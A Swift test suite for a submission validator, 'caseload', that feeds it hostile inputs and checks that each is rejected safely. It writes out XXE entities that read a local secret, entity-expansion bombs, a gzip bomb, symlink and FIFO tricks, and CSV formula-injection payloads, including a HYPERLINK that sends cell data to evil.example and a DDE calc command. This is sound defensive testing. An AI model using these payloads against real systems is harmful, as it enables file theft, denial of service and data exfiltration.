// The hostile-input suite: one case per attack of the contract's "Hostile input" and beyond.
// Every case runs the real `caseload run` on a folder holding one good submission and the attack,
// with a secret file beside the input folder, and asserts:
//   - the exit status, within a time limit (the run is killed at the limit: a hang fails);
//   - the peak resident memory of the run;
//   - the exact issues of the attacking file (code and line) in issues.csv;
//   - that the secret file is never opened, and its content reaches no output and no log line;
//   - that the input folder is unchanged;
//   - that issues.csv reads back as CSV whose cells never start with a formula character.
import Foundation
import Testing
import TestSupport
#if canImport(Glibc)
    import Glibc
#endif

/// One attack: what it puts into the input folder and what the run must say about it.
struct Attack: Sendable, CustomTestStringConvertible {
    var name: String
    /// Writes the attack into the scene's input folder.
    var build: @Sendable (Scene) throws -> Void
    /// The issues of the attacking files, as `CODE path:line` (`:line` left out when the issue has
    /// none), sorted; only error and warning rows of files other than the good one are compared.
    var issues: [String]
    var status: Int32 = 1
    var maxMiB = 160
    var maxSeconds: Double = 120
    var testDescription: String { name }
}

/// A throw-away root: `Input/` with a registry and one good file, `secret.txt` beside it.
struct Scene {
    let root: String
    var input: String { root + "/Input" }
    var output: String { root + "/Output" }
    var secretPath: String { root + "/secret.txt" }
    /// The secret's content: it must never appear in any output or log.
    static let secret = "TOP-SECRET-c0ffee-7b1d"
    /// A payload in name fields: names reach nothing.
    static let namePayload = "ZZNAMEPAYLOADZZ"

    init() throws {
        root = makeTemporaryFolder("caseload-hostile")
        mkdir(root + "/Input", 0o755)
        try Self.secret.write(toFile: root + "/secret.txt", atomically: false, encoding: .utf8)
        write(
            "facilities.csv",
            """
            facility_code,name,kind,province,city,opened,closed
            IDC-TPI,Rudenim Tanjung Pinang,IDC,ID-KR,Tanjung Pinang,2010-01,
            SH-JKT,Shelter Jakarta,SHELTER,ID-JK,Jakarta,2010-01,

            """)
        write("detention_IDC-TPI_2012-02.csv", Self.detentionCSV(rows: 3))
    }

    func write(_ path: String, _ text: String) { write(path, Array(text.utf8)) }

    func write(_ path: String, _ bytes: [UInt8]) {
        let full = input + "/" + path
        try! FileManager.default.createDirectory(atPath: (full as NSString).deletingLastPathComponent, withIntermediateDirectories: true)
        precondition(FileManager.default.createFile(atPath: full, contents: Data(bytes)))
    }

    static let detentionHeader = "case_id,unhcr_id,family_name,given_name,sex,birth_date,nationality,arrival_date,interception,status,status_date,unaccompanied_minor,vulnerabilities,services"

    static func detentionRow(_ n: Int) -> String {
        let id = String(n)
        return "IDN-2011-" + String(repeating: "0", count: 6 - id.count) + id + ",,Rahimi,Ali,M,1989,AFG,2011-11-02,SEA,PENDING_RSD,,N,,FOOD"
    }

    static func detentionCSV(rows: Int) -> String {
        ([detentionHeader] + (1...rows).map(detentionRow)).joined(separator: "\n") + "\n"
    }

    /// A detention XML document for 2012-03 around `body` (records), after `prolog`.
    static func xml(prolog: String = "", period: String = "2012-03", rootAttributes: String = "", _ body: String) -> String {
        """
        <?xml version="1.0" encoding="UTF-8"?>
        \(prolog)<submission xmlns="urn:iom-idn:caseload:submission:1" kind="detention" facility="IDC-TPI" period="\(period)"\(rootAttributes)>
        \(body)
        </submission>

        """
    }

    static func migrant(_ n: Int, caseID: String? = nil, extra: String = "") -> String {
        let id = String(n)
        let c = caseID ?? "IDN-2011-" + String(repeating: "0", count: 6 - id.count) + id
        return "<migrant><caseId>\(c)</caseId><sex>M</sex><birthDate>1989</birthDate><nationality>AFG</nationality>\(extra)<arrivalDate>2011-11-02</arrivalDate><status>PENDING_RSD</status></migrant>"
    }
}

let X = "detention_IDC-TPI_2012-03.xml"
let C = "detention_IDC-TPI_2012-03.csv"
let S = "shelter_SH-JKT_2012-03.csv"
let X1 = "detention_IDC-TPI_2012-01.xml"

enum Attacks {
    static let entity = "<!ENTITY x SYSTEM \"file://SECRET\">"

    static let all: [Attack] = xml + csvBytes + limits + names + entries + payloads

    // MARK: XML: external entities in every form, expansion, nesting, sizes
    static let xml: [Attack] = [
        Attack(
            name: "external general entity (XXE) of a local file",
            build: { s in
                s.write(X, Scene.xml(prolog: "<!DOCTYPE submission [\(entity.replacingOccurrences(of: "SECRET", with: s.secretPath))]>\n", Scene.migrant(1, caseID: "&x;")))
            }, issues: ["XML_DOCTYPE \(X):2"]),
        Attack(
            name: "external parameter entity",
            build: { s in
                s.write(X, Scene.xml(prolog: "<!DOCTYPE submission [<!ENTITY % p SYSTEM \"file://\(s.secretPath)\"> %p;]>\n", Scene.migrant(1)))
            }, issues: ["XML_DOCTYPE \(X):2"]),
        Attack(
            name: "external DTD as system identifier",
            build: { s in
                s.write(X, Scene.xml(prolog: "<!DOCTYPE submission SYSTEM \"\(s.secretPath)\">\n", Scene.migrant(1)))
            }, issues: ["XML_DOCTYPE \(X):2"]),
        Attack(
            name: "external DTD over the network",
            build: { s in
                s.write(X, Scene.xml(prolog: "<!DOCTYPE submission PUBLIC \"-//IOM//x//EN\" \"http://127.0.0.1:9/x.dtd\">\n", Scene.migrant(1)))
            }, issues: ["XML_DOCTYPE \(X):2"]),
        Attack(
            name: "external entity in an attribute value",
            build: { s in
                s.write(X, Scene.xml(prolog: "<!DOCTYPE submission [<!ENTITY x SYSTEM \"file://\(s.secretPath)\">]>\n", rootAttributes: " revision=\"&x;\"", Scene.migrant(1)))
            }, issues: ["XML_DOCTYPE \(X):2"]),
        Attack(
            name: "entity declared after the root element's name in a later line",
            build: { s in
                s.write(X, "<?xml version=\"1.0\"?>\n\n<!DOCTYPE\n submission [\n<!ENTITY x SYSTEM \"file://\(s.secretPath)\">]>\n<submission>&x;</submission>\n")
            }, issues: ["XML_DOCTYPE \(X):3"]),
        Attack(
            name: "XInclude of a local file",
            build: { s in
                s.write(X, Scene.xml(Scene.migrant(1, extra: "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file://\(s.secretPath)\" parse=\"text\"/>")))
            }, issues: ["XML_SCHEMA \(X):3"]),
        Attack(
            name: "xsi:schemaLocation and noNamespaceSchemaLocation pointing at a local file (never fetched)",
            build: { s in
                s.write(X, Scene.xml(rootAttributes: " xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"urn:iom-idn:caseload:submission:1 file://\(s.secretPath)\" xsi:noNamespaceSchemaLocation=\"file://\(s.secretPath)\"", Scene.migrant(1)))
            }, issues: [], status: 0),
        Attack(
            name: "xml-stylesheet processing instruction pointing at a local file (never fetched)",
            build: { s in
                s.write(X, Scene.xml(prolog: "<?xml-stylesheet type=\"text/xsl\" href=\"file://\(s.secretPath)\"?>\n", Scene.migrant(1)))
            }, issues: [], status: 0),
        Attack(
            name: "billion laughs",
            build: { s in
                var d = "<!ENTITY l0 \"lol\">"
                for i in 1...9 { d += "<!ENTITY l\(i) \"" + String(repeating: "&l\(i - 1);", count: 10) + "\">" }
                s.write(X, Scene.xml(prolog: "<!DOCTYPE submission [\(d)]>\n", Scene.migrant(1, caseID: "&l9;")))
            }, issues: ["XML_DOCTYPE \(X):2"]),
        Attack(
            name: "quadratic blowup (a 100 kB entity used 50,000 times)",
            build: { s in
                s.write(
                    X,
                    Scene.xml(
                        prolog: "<!DOCTYPE submission [<!ENTITY a \"" + String(repeating: "x", count: 100_000) + "\">]>\n",
                        Scene.migrant(1, caseID: String(repeating: "&a;", count: 50_000))))
            }, issues: ["XML_DOCTYPE \(X):2"]),
        Attack(
            name: "nesting 100,000 elements deep",
            build: { s in
                s.write(X, Scene.xml(String(repeating: "<migrant>", count: 100_000) + String(repeating: "</migrant>", count: 100_000)))
            }, issues: ["XML_MALFORMED \(X):3"]),
        Attack(
            name: "a text node of 12 MB",
            build: { s in
                s.write(X, Scene.xml(Scene.migrant(1, caseID: String(repeating: "A", count: 12_000_000))))
            }, issues: ["XML_MALFORMED \(X):3"]),
        Attack(
            name: "an attribute value of 12 MB",
            build: { s in
                s.write(X, Scene.xml(rootAttributes: " note=\"" + String(repeating: "A", count: 12_000_000) + "\"", Scene.migrant(1)))
            }, issues: ["XML_MALFORMED \(X):2"]),
        Attack(
            name: "a comment of 12 MB",
            build: { s in
                s.write(X, Scene.xml("<!--" + String(repeating: "c", count: 12_000_000) + "-->" + Scene.migrant(1)))
            }, issues: ["XML_MALFORMED \(X):3"]),
        Attack(
            name: "an element name of 60,000 bytes",
            build: { s in
                s.write(X, Scene.xml("<" + String(repeating: "n", count: 60_000) + "/>"))
            }, issues: ["XML_MALFORMED \(X):3"]),
        Attack(
            name: "a gzip bomb renamed .xml (1 GiB of zeros, never inflated)",
            build: { s in
                let path = s.input + "/" + X
                let r = try Binary.run(
                    ["-c", "import gzip,sys\nm=gzip.compress(bytes(1<<20),9)\nopen(sys.argv[1],'wb').write(m*1024)", path],
                    executable: "/usr/bin/env", prefix: ["python3"])
                precondition(r.status == 0)
            }, issues: ["ENCODING \(X):1"], maxMiB: 96),
        Attack(
            name: "XML in UTF-16 with its declaration",
            build: { s in
                s.write(X, [0xFF, 0xFE] + Array(Scene.xml(Scene.migrant(1)).replacingOccurrences(of: "UTF-8", with: "UTF-16").utf16).flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] })
            }, issues: ["ENCODING \(X):1"]),
        Attack(
            name: "XML declaring ISO-8859-1 with Latin-1 bytes",
            build: { s in
                s.write(X, Array(Scene.xml(Scene.migrant(1)).replacingOccurrences(of: "UTF-8", with: "ISO-8859-1").utf8) + Array("<!-- caf".utf8) + [0xE9] + Array(" -->\n".utf8))
            }, issues: ["ENCODING \(X):5"]),
    ]

    // MARK: bytes that are not text
    static let csvBytes: [Attack] = [
        Attack(
            name: "invalid UTF-8 in a CSV row",
            build: { s in
                s.write(C, Array((Scene.detentionHeader + "\n" + Scene.detentionRow(1) + "\n").utf8) + Array("IDN-2011-000002,,Rahimi,Al".utf8) + [0xC3, 0x28] + Array(",M\n".utf8))
            }, issues: ["ENCODING \(C):3"]),
        Attack(
            name: "an overlong UTF-8 encoding of '/'",
            build: { s in
                s.write(C, Array((Scene.detentionHeader + "\n").utf8) + [0xC0, 0xAF] + Array("\n".utf8))
            }, issues: ["ENCODING \(C):2"]),
        Attack(
            name: "UTF-8 truncated at the end of the file",
            build: { s in
                s.write(C, Array(Scene.detentionCSV(rows: 2).utf8) + [0xE2, 0x82])
            }, issues: ["ENCODING \(C):4"]),
        Attack(
            name: "a surrogate encoded in UTF-8",
            build: { s in
                s.write(S, Array("case_id\n".utf8) + [0xED, 0xA0, 0x80, 0x0A])
            }, issues: ["ENCODING \(S):2"]),
        Attack(
            name: "CSV in UTF-16LE with a byte-order mark",
            build: { s in
                s.write(C, [0xFF, 0xFE] + Array(Scene.detentionCSV(rows: 2).utf16).flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] })
            }, issues: ["ENCODING \(C):1"]),
        Attack(
            name: "a NUL byte in a CSV row",
            build: { s in
                s.write(C, Array(Scene.detentionCSV(rows: 3).utf8) + Array("IDN-2011-000009,,Rahimi,Ali".utf8) + [0] + Array(",M\n".utf8))
            }, issues: ["ENCODING \(C):5"]),
        Attack(
            name: "a NUL byte in XML",
            build: { s in
                s.write(X, Array(Scene.xml(Scene.migrant(1)).utf8) + [0])
            }, issues: ["ENCODING \(X):5"]),
        Attack(
            name: "an ELF executable renamed .csv",
            build: { s in
                let elf = readAll(Binary.path)!.prefix(200_000)
                s.write(C, [UInt8](elf))
            }, issues: ["ENCODING \(C):1"]),
        Attack(
            name: "random bytes renamed .xml",
            build: { s in
                var g = SystemRandomNumberGenerator()
                s.write(X, (0..<100_000).map { _ in UInt8.random(in: 0...255, using: &g) | 0x80 })
            }, issues: ["ENCODING \(X):1"]),
    ]

    // MARK: limits: huge lines, headers, fields, quotes, blank lines, size
    static let limits: [Attack] = [
        Attack(
            name: "a field growing past 1 MiB on one line",
            build: { s in
                s.write(C, Scene.detentionCSV(rows: 2) + "IDN-2011-000009,," + String(repeating: "N", count: 1_100_000) + ",Ali,M,1989,AFG,2011-11-02,SEA,PENDING_RSD,,N,,FOOD\n")
            }, issues: ["TOO_LARGE \(C):4"]),
        Attack(
            name: "a 4 MB line of two million cells without a line end (cells past the header's are counted, not kept)",
            build: { s in
                s.write(C, Scene.detentionHeader + "\n" + String(repeating: "x,", count: 2_000_000))
            }, issues: ["FIELD_COUNT \(C):2", "TOO_MANY_REJECTS \(C)"], maxMiB: 48),
        Attack(
            name: "a header of 5,000 cells",
            build: { s in
                s.write(C, Scene.detentionHeader + String(repeating: ",extra", count: 5_000) + "\n" + Scene.detentionRow(1) + "\n")
            }, issues: ["TOO_LARGE \(C):1"]),
        Attack(
            name: "a header cell of 2 MB",
            build: { s in
                s.write(C, String(repeating: "h", count: 2_000_000) + "\n")
            }, issues: ["TOO_LARGE \(C):1"]),
        Attack(
            name: "an unterminated quote in a big file (TOO_LARGE where it opened)",
            build: { s in
                s.write(C, Scene.detentionCSV(rows: 40) + "\"IDN-2011-000099,,Rahimi\n" + (100...60_099).map(Scene.detentionRow).joined(separator: "\n") + "\n")
            }, issues: ["TOO_LARGE \(C):42"]),
        Attack(
            name: "an unterminated quote in a small file (CSV_SYNTAX where it opened)",
            build: { s in
                s.write(C, Scene.detentionCSV(rows: 4) + "IDN-2011-000099,,\"Rahimi,Ali\n")
            }, issues: ["CSV_SYNTAX \(C):6"]),
        Attack(
            name: "three million empty lines (skipped)",
            build: { s in
                s.write(C, Scene.detentionHeader + "\n" + String(repeating: "\n", count: 3_000_000) + Scene.detentionRow(1) + "\n" + String(repeating: "\r\n", count: 1_000_000))
            }, issues: [], status: 0),
        Attack(
            name: "twenty thousand rows of empty cells (one BLANK_ROW each)",
            build: { s in
                s.write(C, Scene.detentionCSV(rows: 1) + String(repeating: ",,,,,,,,,,,,,\n", count: 20_000))
            }, issues: (3...20_002).map { "BLANK_ROW \(C):\($0)" }, status: 0),
        Attack(
            name: "a file over 1 GiB (sparse, judged by its size and never read)",
            build: { s in
                let fd = open(s.input + "/" + C, O_CREAT | O_WRONLY, 0o644)
                precondition(fd >= 0 && ftruncate(fd, (1 << 30) + 1) == 0)
                close(fd)
            }, issues: ["TOO_LARGE \(C)"], maxMiB: 96),
        Attack(
            name: "an empty file and a file of line ends",
            build: { s in
                s.write(C, "")
                s.write(S, "\n\r\n\r\n")
            }, issues: ["EMPTY_FILE \(C)", "EMPTY_FILE \(S)"]),
    ]

    // MARK: odd file names
    static let names: [Attack] = [
        Attack(
            name: "odd file names",
            build: { s in
                for n in [
                    "detention_IDC-TPI_2012-03.csv\n.csv", "-rf.csv", "=HYPERLINK(\"http:⁄⁄x\").csv", "detention_IDC-TPI_2012-03.csv.csv",
                    "DETENTION_IDC-TPI_2012-03.csv", "detention_IDC-TPI_2012-3.csv", "detention_IDC-TPI_2012-03_r0.csv",
                    "detention_IDC-TPI_2012-03\u{202E}vsc.xml", "detention_ＩＤＣ-TPI_2012-03.csv", "a,b\"c.csv", " detention_IDC-TPI_2012-03.csv",
                    String(repeating: "d", count: 250) + ".csv",
                ] {
                    s.write(n, Scene.detentionCSV(rows: 1))
                }
                // A name that is not UTF-8, through the C API.
                let bytes = Array((s.input + "/detention_IDC-TPI_2012-0").utf8) + [0xFF, 0x33] + Array(".csv".utf8) + [0]
                let fd = bytes.withUnsafeBufferPointer { $0.withMemoryRebound(to: CChar.self) { open($0.baseAddress!, O_CREAT | O_WRONLY, 0o644) } }
                precondition(fd >= 0)
                close(fd)
            },
            issues: [
                "FILE_NAME  detention_IDC-TPI_2012-03.csv", "FILE_NAME …" + String(repeating: "d", count: 195) + ".csv",
                "FILE_NAME '-rf.csv", "FILE_NAME '=HYPERLINK(\"http:⁄⁄x\").csv", "FILE_NAME DETENTION_IDC-TPI_2012-03.csv",
                "FILE_NAME a,b\"c.csv", "FILE_NAME detention_IDC-TPI_2012-03.csv.csv", "FILE_NAME detention_IDC-TPI_2012-03.csv\u{FFFD}.csv",
                "FILE_NAME detention_IDC-TPI_2012-03\u{202E}vsc.xml", "FILE_NAME detention_IDC-TPI_2012-03_r0.csv",
                "FILE_NAME detention_IDC-TPI_2012-0\u{FFFD}3.csv", "FILE_NAME detention_IDC-TPI_2012-3.csv",
                "FILE_NAME detention_ＩＤＣ-TPI_2012-03.csv",
            ])
    ]

    // MARK: links, FIFOs, sockets, devices, folders
    static let entries: [Attack] = [
        Attack(
            name: "symbolic links into and out of the folder",
            build: { s in
                precondition(symlink(s.input + "/detention_IDC-TPI_2012-02.csv", s.input + "/" + C) == 0)
                precondition(symlink(s.secretPath, s.input + "/" + S) == 0)
                precondition(symlink("/nonexistent/x", s.input + "/detention_IDC-TPI_2012-04.csv") == 0)
                precondition(symlink(s.input + "/detention_IDC-TPI_2012-05.csv", s.input + "/detention_IDC-TPI_2012-05.csv") == 0)
                // A linked folder outside holding a good file: never entered.
                mkdir(s.root + "/outside", 0o755)
                try Scene.detentionCSV(rows: 1).write(toFile: s.root + "/outside/detention_IDC-TPI_2012-06.csv", atomically: false, encoding: .utf8)
                precondition(symlink(s.root + "/outside", s.input + "/2012") == 0)
            },
            issues: [
                "FILE_NAME 2012", "UNREADABLE \(C)", "UNREADABLE detention_IDC-TPI_2012-04.csv",
                "UNREADABLE detention_IDC-TPI_2012-05.csv", "UNREADABLE \(S)",
            ]),
        Attack(
            name: "a FIFO, a socket and a device (never opened: the run does not hang)",
            build: { s in
                precondition(mkfifo(s.input + "/" + C, 0o644) == 0)
                precondition(mknod(s.input + "/" + X, S_IFCHR | 0o644, (1 << 8) | 5) == 0)  // /dev/zero
                let fd = socket(AF_UNIX, Int32(SOCK_STREAM.rawValue), 0)
                var addr = sockaddr_un()
                addr.sun_family = sa_family_t(AF_UNIX)
                let path = Array((s.input + "/" + S).utf8CString)
                withUnsafeMutableBytes(of: &addr.sun_path) { raw in for (i, c) in path.enumerated() where i < raw.count { raw[i] = UInt8(bitPattern: c) } }
                let rc = withUnsafePointer(to: &addr) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { bind(fd, $0, socklen_t(MemoryLayout<sockaddr_un>.size)) } }
                precondition(rc == 0)
                close(fd)
            }, issues: ["UNREADABLE \(C)", "UNREADABLE \(X)", "UNREADABLE \(S)"]),
    ]

    // MARK: formula payloads in every field
    static let payloads: [Attack] = [
        Attack(
            name: "formula payloads in every CSV and XML field",
            build: { s in
                let formulas = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "|calc", "%0A=1", "\t=1", "\r=1"]
                var rows: [String] = []
                for f in formulas {
                    let q = "\"" + f.replacingOccurrences(of: "\"", with: "\"\"") + "\""
                    // Every field holds the payload; name fields carry the name marker as well.
                    rows.append(([q, q, "\"" + Scene.namePayload + f.replacingOccurrences(of: "\"", with: "\"\"") + "\"", q] + Array(repeating: q, count: 10)).joined(separator: ","))
                }
                s.write(C, Scene.detentionHeader + "\n" + rows.joined(separator: "\n") + "\n")
                let esc = { (f: String) in f.replacingOccurrences(of: "&", with: "&amp;").replacingOccurrences(of: "<", with: "&lt;").replacingOccurrences(of: "\"", with: "&quot;") }
                let records = formulas.map { f in
                    let e = esc(f)
                    return "<migrant><caseId>\(e)</caseId><unhcrId>\(e)</unhcrId><familyName>\(Scene.namePayload)\(e)</familyName><givenName>\(e)</givenName><sex>\(e)</sex><birthDate>\(e)</birthDate><nationality>\(e)</nationality><arrivalDate>\(e)</arrivalDate><interception>\(e)</interception><status>\(e)</status><statusDate>\(e)</statusDate><unaccompaniedMinor>\(e)</unaccompaniedMinor><vulnerabilities><code>\(e)</code></vulnerabilities><services><code>\(e)</code></services></migrant>"
                }
                s.write(X1, Scene.xml(period: "2012-01", records.joined(separator: "\n")))
            }, issues: [])  // record issues by the hundred: checked by the formula and name checks below
    ]
}

struct HostileSuiteTests {
    @Test(arguments: Attacks.all)
    func attack(_ a: Attack) throws {
        let s = try Scene()
        defer { try? FileManager.default.removeItem(atPath: s.root) }
        try a.build(s)
        let before = snapshot(s.input)
        var m: Binary.Measured?
        let opened = try openedWhile(s.secretPath) {
            m = try Binary.measured(["run", "--input", s.input, "--output", s.output, "--log-format", "json"], timeLimit: a.maxSeconds)
        }
        let run = try #require(m)
        if let report = ProcessInfo.processInfo.environment["CASELOAD_HOSTILE_REPORT"] {
            // `make hostile-report`: one line per attack, for docs/security.md.
            let line = String(format: "%@\t%.2f\t%d\n", a.name, run.seconds, run.peakKiB / 1024)
            let fd = open(report, O_WRONLY | O_APPEND | O_CREAT, 0o644)
            _ = line.withCString { write(fd, $0, strlen($0)) }
            close(fd)
        }
        #expect(run.status == a.status, "exit status (nil: killed after \(a.maxSeconds) s); stderr: \(run.stderr.suffix(500))")
        // Under `make test-sanitize` the binary carries AddressSanitizer's shadow memory and
        // quarantine: the bounds are those of the plain build, times four.
        let factor = ProcessInfo.processInfo.environment["CASELOAD_SANITIZED"] == nil ? 1 : 4
        #expect(run.peakKiB < a.maxMiB * 1024 * factor, "peak resident memory \(run.peakKiB / 1024) MiB")
        #expect(!opened, "the secret file outside the input folder was opened")
        #expect(snapshot(s.input) == before, "the input folder changed")

        let outputs = filesUnder(s.output)
        let issuesText = try #require(outputs["issues.csv"].map { String(decoding: $0, as: UTF8.self) })
        let rows = parseCSV(issuesText)
        #expect(rows.first == ["severity", "code", "file", "line", "facility", "period", "case_id", "field", "message"])
        #expect(rows.allSatisfy { $0.count == 9 }, "every row has nine cells")
        // The attacking files' issues, exactly (the good file and the missing months aside).
        if a.name.hasPrefix("formula") == false {
            let got = rows.dropFirst()
                .filter { ($0[0] == "error" || $0[0] == "warning") && $0[2] != "detention_IDC-TPI_2012-02.csv" && $0[1] != "MISSING_SUBMISSION" && $0[1] != "CONTINUITY" }
                .map { "\($0[1]) \($0[2])" + ($0[3].isEmpty ? "" : ":\($0[3])") }.sorted()
            #expect(got == a.issues.sorted())
        } else {
            #expect(rows.contains { $0[1] == "FORMAT" && $0[2] == C } && rows.contains { $0[1] == "FORMAT" && $0[2] == X1 })
        }
        // No cell written back starts, after spaces and control characters, with a formula character.
        for row in rows.dropFirst() {
            for (i, cell) in row.enumerated() where i != 3 {
                let first = cell.unicodeScalars.first { $0 != " " && $0.value >= 0x20 && $0.value != 0x7F }
                #expect(first.map { !"=+-@|%".unicodeScalars.contains($0) } ?? true, "cell \(i) of \(row)")
                #expect(!(cell.first.map { "\t\r\n".contains($0) } ?? false), "cell \(i) of \(row)")
            }
        }
        // The secret and the names reach no output and no log line.
        for (path, bytes) in outputs {
            let text = String(decoding: bytes, as: UTF8.self)
            #expect(!text.contains(Scene.secret), "the secret in \(path)")
            #expect(!text.contains(Scene.namePayload), "a name in \(path)")
        }
        for log in [run.stdout, run.stderr] {
            #expect(!log.contains(Scene.secret) && !log.contains(Scene.namePayload))
        }
        #expect(outputs.keys.contains("manifest.json"))
    }
}
